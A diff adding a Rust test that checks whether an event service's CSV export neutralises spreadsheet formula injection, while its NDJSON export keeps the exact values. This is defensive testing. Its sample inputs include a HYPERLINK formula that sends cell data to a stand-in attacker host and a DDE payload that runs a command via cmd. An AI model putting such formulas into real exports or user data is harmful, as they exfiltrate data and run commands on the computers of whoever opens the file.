@@ -884,3 +884,47 @@ fn shared_token_and_device_tokens_side_by_side() {
         .expect("answered");
     assert_eq!(r.status, 403);
 }
+
+#[test]
+fn csv_defuses_formulas_and_ndjson_stays_exact() {
+    let s = start(&[]);
+    let nasty = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+86 138 1234 5678",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\tTAB",
+        "\rCR",
+    ];
+    let events: Vec<Value> = nasty
+        .iter()
+        .enumerate()
+        .map(|(i, text)| {
+            let mut e = survey(&format!("f{i}"), text, Some("2026-11-30T05:18:21.123Z"), 9, 4, 80.0);
+            e["source"] = json!(format!("/stores/lanting-xuhui/touchpoints/t{i}"));
+            e
+        })
+        .collect();
+    let mut formula_id = event("=1+2");
+    formula_id["type"] = json!("@type");
+    let mut all = events.clone();
+    all.push(formula_id.clone());
+    assert_eq!(s.post_batch(&all).status, 200);
+
+    let rows = parse_csv(&s.get("/api/events.csv").body);
+    for (i, text) in nasty.iter().enumerate() {
+        assert_eq!(rows[i + 1][5], format!("'{text}"), "touchpoint column of row {i}");
+    }
+    let last = &rows[nasty.len() + 1];
+    assert_eq!((last[2].as_str(), last[3].as_str()), ("'=1+2", "'@type"));
+    // Every cell of the file: none starts with a formula character once parsed.
+    for row in &rows {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
+        }
+    }
+    // NDJSON keeps the exact values.
+    let mut expected = events;
+    expected.push(formula_id);
+    assert_eq!(s.stored(), expected);
+}
